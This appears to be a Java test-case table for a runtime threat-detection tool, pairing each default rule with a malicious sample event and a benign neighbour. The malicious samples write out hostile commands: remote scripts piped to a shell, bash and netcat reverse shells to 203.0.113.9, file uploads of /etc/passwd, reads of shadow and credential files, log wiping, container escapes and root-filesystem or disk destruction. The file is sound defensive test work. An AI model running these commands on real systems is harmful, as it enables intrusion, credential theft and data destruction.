package dev.vigil.rules;

import java.util.ArrayList;
import java.util.List;

import static dev.vigil.rules.TestEvents.CONTAINER;
import static dev.vigil.rules.TestEvents.O_CREAT;
import static dev.vigil.rules.TestEvents.O_WRONLY;
import static dev.vigil.rules.TestEvents.PRIVILEGED;
import static dev.vigil.rules.TestEvents.connect;
import static dev.vigil.rules.TestEvents.exe;
import static dev.vigil.rules.TestEvents.exec;
import static dev.vigil.rules.TestEvents.open;
import static dev.vigil.rules.TestEvents.read;
import static dev.vigil.rules.TestEvents.sh;
import static dev.vigil.rules.TestEvents.sys;
import static dev.vigil.rules.TestEvents.truncate;
import static dev.vigil.rules.TestEvents.write;

/**
 * For every default rule: an event that performs the behaviour (the rule must match it) and a
 * close benign neighbour (it must not). The table is data, so the agent's kernel replay tests
 * can perform the same behaviours for real and compare.
 */
public final class DefaultRuleCases {
    public record Case(String rule, RuleEvent matching, RuleEvent benign) {
        @Override
        public String toString() {
            return rule;
        }
    }

    private DefaultRuleCases() {}

    private static final List<Case> CASES = new ArrayList<>();

    private static void add(String rule, RuleEvent matching, RuleEvent benign) {
        CASES.add(new Case(rule, matching, benign));
    }

    private static TestEvents.P inC(String binary, String... args) {
        return exe(binary, args).in(CONTAINER);
    }

    private static TestEvents.P shellIn(String binary, String... args) {
        return exe(binary, args).in(CONTAINER).parent(exe("/bin/bash").in(CONTAINER));
    }

    public static synchronized List<Case> cases() {
        if (!CASES.isEmpty()) return List.copyOf(CASES);
        // initial access
        add("Shell Spawned by Web Server",
                exec(sh("id").in(CONTAINER).parent(inC("/usr/sbin/nginx"))),
                exec(sh("id").parent(exe("/usr/sbin/sshd"))));
        add("Privilege Escalation Exploit Tool pkexec",
                exec(exe("/usr/bin/pkexec")),
                exec(exe("/usr/bin/pkexec", "systemctl", "restart", "nginx")));
        // execution
        add("Shell Spawned in Container",
                exec(exe("/bin/bash").in(CONTAINER).parent(inC("/usr/bin/python3", "app.py"))),
                exec(exe("/bin/bash").in(CONTAINER).parent(inC("/sbin/tini"))));
        add("Interpreter One-Liner in Container",
                exec(inC("/usr/bin/python3", "-c", "import pty;pty.spawn('/bin/sh')")),
                exec(inC("/usr/bin/python3", "app.py")));
        add("Remote Script Piped to Shell",
                exec(sh("curl -s http://203.0.113.9/i.sh | sh")),
                exec(sh("curl -s http://localhost/health")));
        add("Container Exec Command Run",
                exec(exe("/usr/bin/docker", "exec", "-it", "web-1", "sh")),
                exec(exe("/usr/bin/docker", "ps")));
        add("Privileged Container Launched From Command Line",
                exec(exe("/usr/bin/docker", "run", "--privileged", "-it", "alpine")),
                exec(exe("/usr/bin/docker", "run", "-it", "alpine")));
        add("Netcat With Command Execution",
                exec(exe("/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444")),
                exec(exe("/usr/bin/nc", "-z", "db", "5432")));
        add("Bash Network Redirection Reverse Shell",
                exec(exe("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")),
                exec(exe("/bin/bash", "-c", "echo ok > /dev/null")));
        add("Reverse Shell Standard Stream Redirection",
                sys("dup2", exe("/bin/bash")).fd(1, '4', "172.17.0.2:40312->203.0.113.9:4444"),
                sys("dup2", exe("/bin/bash")).fd(1, 'p', "pipe:[12345]"));
        add("Shell Opened Outbound Connection",
                connect(exe("/bin/bash"), "203.0.113.9", 4444),
                connect(exe("/usr/bin/curl"), "203.0.113.9", 443));
        // persistence
        add("Cron Job Created or Modified",
                write(sh("echo"), "/etc/cron.d/update"),
                read(exe("/usr/sbin/cron"), "/etc/crontab"));
        add("Crontab Edited in Container",
                exec(inC("/usr/bin/crontab", "/tmp/jobs")),
                exec(exe("/usr/bin/crontab", "-l")));
        add("SSH Authorized Keys Modified",
                write(sh("echo"), "/root/.ssh/authorized_keys"),
                read(exe("/usr/sbin/sshd"), "/root/.ssh/authorized_keys"));
        add("Systemd Unit Created or Modified",
                write(exe("/usr/bin/tee"), "/etc/systemd/system/updater.service"),
                write(exe("/usr/bin/systemctl"), "/etc/systemd/system/nginx.service"));
        add("Shell Startup File Modified",
                write(exe("/bin/bash"), "/root/.bashrc"),
                read(exe("/bin/bash"), "/root/.bashrc"));
        add("Init Script Modified",
                write(exe("/bin/bash"), "/etc/init.d/updater"),
                write(exe("/usr/bin/dpkg"), "/etc/init.d/nginx"));
        add("Local Account Created or Changed",
                exec(exe("/usr/sbin/useradd", "-m", "-o", "-u", "0", "svc")),
                exec(exe("/usr/sbin/useradd", "-r", "nginx").parent(exe("/usr/bin/apt-get", "install", "nginx"))));
        add("Account Database Written",
                write(exe("/usr/bin/python3"), "/etc/passwd"),
                write(exe("/usr/sbin/useradd"), "/etc/passwd"));
        add("Web Shell Written by Web Server",
                write(inC("/usr/sbin/php-fpm"), "/var/www/html/uploads/cmd.php"),
                write(inC("/usr/sbin/php-fpm"), "/var/www/html/uploads/avatar.png"));
        add("System Binary Modified",
                write(exe("/usr/bin/curl"), "/usr/bin/ls"),
                write(exe("/usr/bin/dpkg"), "/usr/bin/ls"));
        // privilege escalation
        add("Dynamic Linker Preload File Modified",
                write(exe("/bin/bash"), "/etc/ld.so.preload"),
                read(exe("/bin/bash"), "/etc/ld.so.preload"));
        add("Dynamic Linker Configuration Modified",
                write(exe("/bin/bash"), "/etc/ld.so.conf.d/evil.conf"),
                write(exe("/sbin/ldconfig"), "/etc/ld.so.conf.d/x86_64-linux-gnu.conf"));
        add("LD_PRELOAD Used on Command Line",
                exec(sh("LD_PRELOAD=/tmp/hook.so /usr/bin/passwd")),
                exec(sh("ls -la /tmp")));
        add("Setuid or Setgid Bit Set",
                sys("fchmodat", exe("/bin/chmod", "u+s", "/tmp/sh")).fd(-1, 'f', "/tmp/sh").arg("mode", "S_ISUID|S_IRWXU|S_IXGRP|S_IXOTH"),
                sys("fchmodat", exe("/bin/chmod", "755", "/tmp/sh")).fd(-1, 'f', "/tmp/sh").arg("mode", "S_IRWXU|S_IXGRP|S_IXOTH"));
        add("Non-Root Process Set UID to Root",
                sys("setuid", exe("/tmp/exploit").uid(1000)).arg("uid", "0"),
                sys("setuid", exe("/usr/bin/sudo").uid(1000)).arg("uid", "0"));
        add("Sudo or Su in Container",
                exec(inC("/usr/bin/sudo", "-i")),
                exec(exe("/usr/bin/sudo", "-i")));
        add("Sudoers Modified",
                write(exe("/bin/bash"), "/etc/sudoers.d/99-svc"),
                write(exe("/usr/sbin/visudo"), "/etc/sudoers"));
        add("File Capabilities Set",
                exec(exe("/usr/sbin/setcap", "cap_setuid+ep", "/usr/bin/python3")),
                exec(exe("/usr/sbin/setcap", "cap_net_raw+ep", "/usr/bin/ping").parent(exe("/usr/bin/dpkg", "--configure", "-a"))));
        add("Process Injection via Ptrace",
                sys("ptrace", exe("/usr/bin/python3")).arg("request", "PTRACE_ATTACH"),
                sys("ptrace", exe("/usr/bin/gdb")).arg("request", "PTRACE_ATTACH"));
        add("Process Memory Written via Procfs",
                write(exe("/usr/bin/python3"), "/proc/812/mem"),
                write(exe("/usr/bin/python3"), "/proc/812/comm"));
        // container escape
        add("Nsenter Executed",
                exec(exe("/usr/bin/nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh")),
                exec(exe("/usr/bin/lsns")));
        add("Cgroup Release Agent Modified",
                write(sh("echo"), "/tmp/cgrp/release_agent"),
                read(sh("cat"), "/tmp/cgrp/release_agent"));
        add("Kernel Core Pattern Modified",
                write(sh("echo"), "/proc/sys/kernel/core_pattern"),
                write(exe("/usr/lib/systemd/systemd-sysctl"), "/proc/sys/kernel/core_pattern"));
        add("Kernel Parameters Written From Container",
                write(inC("/bin/sh"), "/proc/sys/kernel/modprobe"),
                write(inC("/bin/sh"), "/proc/sys/net/ipv4/ip_forward"));
        add("Mount Syscall in Container",
                sys("mount", inC("/bin/mount")).arg("dev", "/dev/sda1").arg("dir", "/mnt"),
                sys("mount", exe("/bin/mount")).arg("dev", "/dev/sda1").arg("dir", "/mnt"));
        add("Mount Command in Container",
                exec(shellIn("/bin/mount", "/dev/sda1", "/mnt")),
                exec(exe("/bin/mount", "/dev/sda1", "/mnt")));
        add("Namespace Change in Container",
                sys("unshare", inC("/usr/bin/unshare", "-U", "-r", "sh")),
                sys("unshare", exe("/usr/bin/unshare", "-U", "-r", "sh")));
        add("Container Runtime Socket Accessed From Container",
                sys("connect", inC("/usr/bin/curl")).fd(3, 'u', "/var/run/docker.sock"),
                sys("connect", exe("/usr/bin/curl")).fd(3, 'u', "/var/run/docker.sock"));
        add("Host Filesystem Reached Through Procfs",
                read(inC("/bin/cat"), "/proc/1/root/etc/shadow"),
                read(inC("/bin/cat"), "/proc/1/status"));
        add("Raw Block Device Opened in Container",
                read(inC("/sbin/debugfs"), "/dev/sda1"),
                read(inC("/bin/sh"), "/dev/null"));
        add("Chroot in Container",
                exec(inC("/usr/sbin/chroot", "/host", "sh")),
                exec(exe("/usr/sbin/chroot", "/srv/build", "make")));
        add("Shell in Privileged Container",
                exec(exe("/bin/bash").in(PRIVILEGED).parent(exe("/usr/bin/python3").in(PRIVILEGED))),
                exec(exe("/bin/bash").in(CONTAINER).parent(inC("/usr/bin/python3"))));
        add("Kernel Module Loaded",
                sys("finit_module", exe("/sbin/insmod", "rootkit.ko")),
                sys("delete_module", exe("/sbin/rmmod", "dummy")));
        add("Module Tool Run in Container",
                exec(inC("/sbin/modprobe", "nf_tables")),
                exec(exe("/sbin/modprobe", "nf_tables")));
        // defense evasion
        add("Execution From Temporary Directory",
                exec(exe("/tmp/kdevtmpfsi")),
                exec(exe("/usr/bin/sleep", "1")));
        add("Execution From Hidden Directory",
                exec(exe("/home/alice/.x/agent")),
                exec(exe("/home/alice/.local/bin/poetry")));
        add("Fileless Execution via Memfd",
                exec(exe("/memfd:payload (deleted)")),
                exec(exe("/usr/bin/ls")));
        add("Executable Memory File Created by Interpreter",
                sys("memfd_create", exe("/usr/bin/python3")).arg("name", "x"),
                sys("memfd_create", exe("/usr/bin/java")).arg("name", "jit"));
        add("Deleted Binary Executed",
                exec(exe("/usr/local/bin/helper (deleted)")),
                exec(exe("/usr/local/bin/helper")));
        add("Log Files Truncated",
                truncate(exe("/bin/bash"), "/var/log/auth.log"),
                truncate(exe("/usr/sbin/logrotate"), "/var/log/auth.log"));
        add("Log Files Deleted",
                sys("unlinkat", exe("/bin/rm", "/var/log/syslog")).arg("name", "/var/log/syslog"),
                sys("unlinkat", exe("/usr/sbin/logrotate")).arg("name", "/var/log/syslog.7.gz"));
        add("Shell History Cleared",
                truncate(exe("/bin/bash"), "/root/.bash_history"),
                open(exe("/bin/bash"), "/root/.bash_history", O_WRONLY | O_CREAT));
        add("Shell History Disabled",
                exec(exe("/bin/bash", "-c", "unset HISTFILE; id")),
                exec(exe("/bin/bash", "-c", "echo $HISTFILE")));
        add("Shell History Linked to Null Device",
                sys("symlinkat", exe("/bin/ln", "-sf", "/dev/null", "/root/.bash_history")).arg("target", "/dev/null").arg("linkpath", "/root/.bash_history"),
                sys("symlinkat", exe("/bin/ln", "-sf", "/etc/app.conf", "/root/app.conf")).arg("target", "/etc/app.conf").arg("linkpath", "/root/app.conf"));
        add("File Timestamps Altered",
                exec(inC("/usr/bin/touch", "-r", "/bin/ls", "/usr/bin/backdoor")),
                exec(inC("/usr/bin/touch", "/tmp/ready")));
        add("Mandatory Access Control Disabled",
                exec(exe("/usr/sbin/setenforce", "0")),
                exec(exe("/usr/sbin/setenforce", "1")));
        add("Firewall Rules Flushed",
                exec(exe("/usr/sbin/iptables", "-F")),
                exec(exe("/usr/sbin/iptables", "-L", "-n")));
        add("Audit System Disabled",
                exec(exe("/usr/sbin/auditctl", "-D")),
                exec(exe("/usr/sbin/auditctl", "-l")));
        add("Process Name Masquerading as Kernel Thread",
                exec(exe("/usr/local/bin/updater").argv0("[kworker/0:2]")),
                exec(exe("/usr/bin/sleep", "10")));
        add("Hidden File Created in Temporary Directory",
                open(exe("/bin/bash"), "/tmp/.ICE-unix2", O_WRONLY | O_CREAT),
                open(exe("/bin/bash"), "/tmp/build.log", O_WRONLY | O_CREAT));
        add("Payload Decoded in Container",
                exec(inC("/usr/bin/base64", "-d", "/tmp/p.b64")),
                exec(inC("/usr/bin/base64", "/tmp/p.bin")));
        add("Compiler Run in Container",
                exec(inC("/usr/bin/gcc", "-o", "/tmp/x", "/tmp/x.c")),
                exec(exe("/usr/bin/gcc", "-o", "/tmp/x", "/tmp/x.c")));
        add("BPF Program Loaded From Container",
                sys("bpf", inC("/tmp/loader")).arg("cmd", "BPF_PROG_LOAD"),
                sys("bpf", inC("/tmp/loader")).arg("cmd", "BPF_MAP_LOOKUP_ELEM"));
        // credential access
        add("Shadow File Read",
                read(exe("/bin/cat"), "/etc/shadow"),
                read(exe("/usr/sbin/unix_chkpwd"), "/etc/shadow"));
        add("SSH Private Key Read",
                read(exe("/bin/cat"), "/home/alice/.ssh/id_ed25519"),
                read(exe("/usr/bin/ssh"), "/home/alice/.ssh/id_ed25519"));
        add("Cloud Credentials File Read",
                read(exe("/bin/cat"), "/root/.aws/credentials"),
                read(exe("/usr/local/bin/aws"), "/root/.aws/credentials"));
        add("Kubernetes Service Account Token Read by Shell Tool",
                read(inC("/bin/cat"), "/var/run/secrets/kubernetes.io/serviceaccount/token"),
                read(inC("/app/server"), "/var/run/secrets/kubernetes.io/serviceaccount/token"));
        add("Kubeconfig or Cluster Credentials Read",
                read(exe("/bin/cat"), "/root/.kube/config"),
                read(exe("/usr/local/bin/kubectl"), "/root/.kube/config"));
        add("Cloud Metadata Service Contacted From Container",
                connect(inC("/usr/bin/curl"), "169.254.169.254", 80),
                connect(inC("/usr/bin/curl"), "10.96.0.10", 80));
        add("Credential Search in Files",
                exec(exe("/bin/grep", "-ri", "password", "/etc")),
                exec(exe("/bin/grep", "-ri", "error", "/var/log")));
        add("Process Environment or Memory Read via Procfs",
                read(exe("/bin/cat"), "/proc/1/environ"),
                read(exe("/bin/ps"), "/proc/1/environ"));
        add("Password Cracking or Brute Force Tool",
                exec(exe("/usr/bin/hydra", "-l", "root", "-P", "rockyou.txt", "ssh://10.0.0.5")),
                exec(exe("/usr/bin/ssh", "root@10.0.0.5")));
        // discovery
        add("Network Scanner Run",
                exec(exe("/usr/bin/nmap", "-sS", "10.0.0.0/24")),
                exec(exe("/bin/ping", "-c1", "10.0.0.1")));
        add("Container Environment Reconnaissance",
                exec(inC("/usr/local/bin/kubectl", "get", "secrets", "-A")),
                exec(exe("/usr/local/bin/kubectl", "get", "pods")));
        add("Privilege Escalation Enumeration Script",
                exec(sh("./linpeas.sh -a")),
                exec(sh("./deploy.sh")));
        add("System Information Discovery in Container",
                exec(shellIn("/bin/uname", "-a")),
                exec(inC("/bin/uname", "-a").parent(inC("/usr/bin/python3"))));
        add("Account Discovery in Container",
                exec(shellIn("/usr/bin/whoami")),
                exec(exe("/usr/bin/whoami").parent(exe("/bin/bash"))));
        add("Network Configuration Discovery in Container",
                exec(shellIn("/sbin/ip", "addr")),
                exec(inC("/sbin/ip", "addr").parent(inC("/usr/bin/python3"))));
        add("Process Discovery in Container",
                exec(shellIn("/bin/ps", "aux")),
                exec(exe("/bin/ps", "aux").parent(exe("/bin/bash"))));
        // lateral movement
        add("SSH Client in Container",
                exec(inC("/usr/bin/ssh", "deploy@10.0.0.7")),
                exec(exe("/usr/bin/ssh", "deploy@10.0.0.7")));
        add("Outbound SSH Connection From Container",
                connect(inC("/usr/bin/python3"), "10.0.0.7", 22),
                connect(inC("/usr/bin/python3"), "10.0.0.7", 443));
        add("Remote Copy Tool to Another Host",
                exec(inC("/usr/bin/rsync", "-a", "/data", "backup@10.0.0.9:/srv")),
                exec(inC("/usr/bin/rsync", "-a", "/data", "/backup")));
        // collection
        add("Sensitive Directory Archived",
                exec(exe("/bin/tar", "czf", "/tmp/x.tgz", "/etc", "/root/.ssh")),
                exec(exe("/bin/tar", "czf", "/tmp/site.tgz", "/var/www")));
        add("Database Dump in Container",
                exec(shellIn("/usr/bin/mysqldump", "--all-databases")),
                exec(inC("/usr/bin/mysqldump", "--all-databases").parent(inC("/usr/sbin/cron"))));
        // exfiltration
        add("Data Uploaded With Command-Line HTTP Client",
                exec(exe("/usr/bin/curl", "-T", "/etc/passwd", "http://203.0.113.9/up")),
                exec(exe("/usr/bin/curl", "-s", "http://203.0.113.9/")));
        add("Cloud Storage Copy From Container",
                exec(inC("/usr/local/bin/aws", "s3", "cp", "/data", "s3://bucket/", "--recursive")),
                exec(inC("/usr/local/bin/aws", "s3", "ls")));
        add("DNS Tunnel Tool",
                exec(exe("/usr/sbin/iodine", "-f", "t.example.org")),
                exec(exe("/usr/bin/dig", "example.org")));
        // command and control
        add("Netcat or Socat in Container",
                exec(inC("/usr/bin/socat", "TCP:203.0.113.9:443", "STDOUT")),
                exec(exe("/usr/bin/socat", "TCP:203.0.113.9:443", "STDOUT")));
        add("Tunneling Tool Run",
                exec(exe("/tmp/chisel", "client", "203.0.113.9:8000", "R:socks")),
                exec(exe("/usr/bin/ssh", "user@example.org")));
        add("SSH Port Forwarding",
                exec(exe("/usr/bin/ssh", "-R", "8080:localhost:80", "user@203.0.113.9")),
                exec(exe("/usr/bin/ssh", "user@203.0.113.9")));
        add("Anonymizing Proxy Tool",
                exec(exe("/usr/bin/tor")),
                exec(exe("/usr/bin/curl", "https://example.org")));
        add("Download Tool Run in Container",
                exec(inC("/usr/bin/wget", "http://203.0.113.9/xmrig")),
                exec(exe("/usr/bin/wget", "http://203.0.113.9/xmrig")));
        add("Package Manager Run in Container",
                exec(shellIn("/usr/bin/apt-get", "install", "-y", "nmap")),
                exec(inC("/usr/bin/dpkg", "--unpack", "nmap.deb").parent(inC("/usr/bin/apt-get", "install", "nmap"))));
        // impact
        add("Crypto Miner Executed",
                exec(exe("/opt/xmrig")),
                exec(exe("/usr/bin/top")));
        add("Mining Pool Address on Command Line",
                exec(exe("/tmp/sysupdate", "-o", "stratum+tcp://pool.example.org:3333", "-u", "wallet")),
                exec(exe("/tmp/sysupdate", "-o", "http://mirror.example.org")));
        add("Connection to Mining Pool Port",
                connect(exe("/tmp/sysupdate"), "203.0.113.9", 3333),
                connect(exe("/tmp/sysupdate"), "203.0.113.9", 443));
        add("Destructive Deletion of Root Filesystem",
                exec(exe("/bin/rm", "-rf", "--no-preserve-root", "/")),
                exec(exe("/bin/rm", "-rf", "/tmp/build")));
        add("Disk Wipe Tool",
                exec(exe("/bin/dd", "if=/dev/zero", "of=/dev/sda", "bs=1M")),
                exec(exe("/bin/dd", "if=/dev/zero", "of=/tmp/disk.img", "bs=1M")));
        add("Security Service Stopped",
                exec(exe("/usr/bin/systemctl", "stop", "auditd")),
                exec(exe("/usr/bin/systemctl", "stop", "nginx")));
        add("System Shutdown From Container",
                exec(inC("/sbin/reboot")),
                exec(exe("/sbin/reboot")));
        add("Files Encrypted With OpenSSL or GPG in Container",
                exec(shellIn("/usr/bin/openssl", "enc", "-aes-256-cbc", "-in", "/data/db.sql", "-out", "/data/db.sql.enc")),
                exec(shellIn("/usr/bin/openssl", "s_client", "-connect", "db:5432")));
        return List.copyOf(CASES);
    }
}
